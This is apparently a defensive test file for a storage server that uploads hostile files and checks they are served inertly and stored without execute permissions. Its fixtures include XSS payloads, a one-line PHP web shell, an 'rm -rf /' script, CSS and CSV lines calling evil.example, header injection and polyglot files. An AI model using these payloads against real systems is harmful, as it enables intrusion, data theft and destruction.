import { readdirSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { resumableOf } from '../../support/resumable.ts'
import { type StorageServer, startStorageServer } from '../../support/storage.ts'

let server: StorageServer
let tus: ReturnType<typeof resumableOf>
beforeAll(async () => {
  server = await startStorageServer()
  tus = resumableOf(server)
  await server.supabase.database.asOwner((tx) =>
    tx.query(`insert into storage.buckets (id, name, public, allowed_mime_types)
      values ('any', 'any', true, null), ('pictures', 'pictures', true, array['image/webp', 'image/png', 'image/jpeg'])`),
  )
})
afterAll(() => server.close())

const HTML = '<!doctype html><script>parent.postMessage(document.cookie)</script>'
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
const XSLT = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#"?><x>${SVG}</x>`
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')
/** A picture that says it is 65,535 points wide and high. */
const PIXEL_BOMB = Buffer.concat([PNG, Buffer.from('0000ffff0000ffff0806000000', 'hex')])
const PDF_WITH_SCRIPT = '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'
const GIF_AND_SCRIPT = 'GIF89a=1;alert(document.domain)//'
const JPEG_AND_HTML = Buffer.concat([Buffer.from('ffd8fffe0000', 'hex'), Buffer.from(HTML)])
const ZIP_IN_PNG = Buffer.concat([PNG, Buffer.from('PK\x03\x04META-INF/MANIFEST.MF')])
const MHTML = `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n${HTML}`
const WEBP_AND_HTML = `RIFF\0\0\0\0WEBPVP8 ${HTML}`

/** What each claims to be in its name, in its type, and what it is. */
const FILES: [name: string, type: string, content: string | Buffer][] = [
  ['script.svg', 'image/svg+xml', SVG],
  ['script.svg.png', 'image/svg+xml', SVG],
  ['svg-as.webp', 'image/webp', SVG],
  ['svg-as.png', 'image/png', SVG],
  ['svg-as.xml', 'text/xml', SVG],
  ['svg.svgz', 'image/svg+xml; charset=utf-7', SVG],
  ['style.xml', 'application/xml', XSLT],
  ['feed.rss', 'application/rss+xml', XSLT],
  ['page.html', 'text/html', HTML],
  ['page.HTM', 'TEXT/HTML', HTML],
  ['page.html.jpg', 'text/html; charset=utf-16', HTML],
  ['page.xhtml', 'application/xhtml+xml', HTML],
  ['html-as.webp', 'image/webp', HTML],
  ['html-as.jpg', 'image/jpeg', HTML],
  ['html-as.mp4', 'video/mp4', HTML],
  ['html-as.pdf', 'application/pdf', HTML],
  ['html-as.txt', 'text/plain', HTML],
  ['html-as-nothing', '', HTML],
  ['html-as-broken', 'image/png, text/html', HTML],
  ['html-as-two', 'text/html\r\nx-injected: 1', HTML],
  ['page.mht', 'message/rfc822', MHTML],
  ['stream.mjpeg', 'multipart/x-mixed-replace; boundary=x', MHTML],
  ['app.appcache', 'text/cache-manifest', 'CACHE MANIFEST\nFALLBACK:\n/ /evil'],
  ['worker.js', 'text/javascript', 'self.onfetch = () => 0'],
  ['module.mjs', 'application/javascript', 'export default alert(1)'],
  ['old.js', 'application/x-javascript', 'alert(1)'],
  ['older.js', 'text/ecmascript', 'alert(1)'],
  ['gif.js', 'image/gif', GIF_AND_SCRIPT],
  ['gif-as.js', 'text/jscript', GIF_AND_SCRIPT],
  ['theme.css', 'text/css', '@import "https://evil.example"; input[value^=a]{background:url(//evil.example/a)}'],
  ['data.json', 'application/json', '{"__proto__":{"x":1}}'],
  ['code.wasm', 'application/wasm', '\0asm\x01\0\0\0'],
  ['polyglot.jpg', 'image/jpeg', JPEG_AND_HTML],
  ['polyglot.webp', 'image/webp', WEBP_AND_HTML],
  ['polyglot.png', 'image/png', ZIP_IN_PNG],
  ['bomb.png', 'image/png', PIXEL_BOMB],
  ['script.pdf', 'application/pdf', PDF_WITH_SCRIPT],
  ['table.csv', 'text/csv', '=HYPERLINK("https://evil.example")'],
  ['shell.php', 'application/x-php', '<?php system($_GET[0]);'],
  ['run.sh', 'application/x-sh', '#!/bin/sh\nrm -rf /'],
  ['run.exe', 'application/x-msdownload', 'MZ'],
  ['app.hta', 'application/hta', HTML],
  ['film.swf', 'application/x-shockwave-flash', 'FWS'],
  ['.htaccess', 'text/plain', 'AddType text/html .png'],
]
const SHOWN = /^(image\/(png|jpeg|gif|webp)|video\/mp4|application\/pdf)$/

test(`of ${FILES.length} hostile files none is active where it is served`, async () => {
  for (const [objectName, contentType, content] of FILES) {
    await tus.send(Buffer.from(content), { bucketName: 'any', objectName, contentType })
    const { headers } = await fetch(`${server.url}/storage/v1/object/public/any/${encodeURIComponent(objectName)}`)
    const type = headers.get('content-type') ?? ''
    const policy = headers.get('content-security-policy') ?? ''
    const isShown = SHOWN.test(type)
    expect([objectName, headers.get('x-content-type-options')]).toEqual([objectName, 'nosniff'])
    expect([objectName, headers.get('content-disposition')]).toEqual([objectName, isShown ? null : 'attachment;'])
    expect([objectName, type]).not.toEqual([objectName, expect.stringMatching(/html|script|css/i)])
    expect(policy).toContain("default-src 'none'")
    expect([objectName, policy.includes('sandbox')]).toEqual([objectName, type !== 'application/pdf'])
    expect(headers.get('x-injected')).toBeNull()
  }
})

test('a bucket of pictures takes only what says it is one, and serves it as nothing else', async () => {
  for (const [objectName, contentType, content] of FILES) {
    const isPicture = ['image/webp', 'image/png', 'image/jpeg'].includes(contentType)
    const sending = tus.send(Buffer.from(content), { bucketName: 'pictures', objectName, contentType })
    if (isPicture) await sending
    else await expect(sending).rejects.toThrow('is not supported')
    const { status, headers } = await fetch(`${server.url}/storage/v1/object/public/pictures/${objectName}`)
    expect([objectName, status]).toEqual([objectName, isPicture ? 200 : 400])
    if (isPicture) expect(headers.get('content-type')).toBe(contentType)
  }
})

test('what lies on the disk can be run by nobody', () => {
  const files = readdirSync(server.files, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile())
  expect(files.length).toBeGreaterThan(FILES.length)
  for (const { parentPath, name } of files) expect(statSync(join(parentPath, name)).mode & 0o777).toBe(0o600)
})
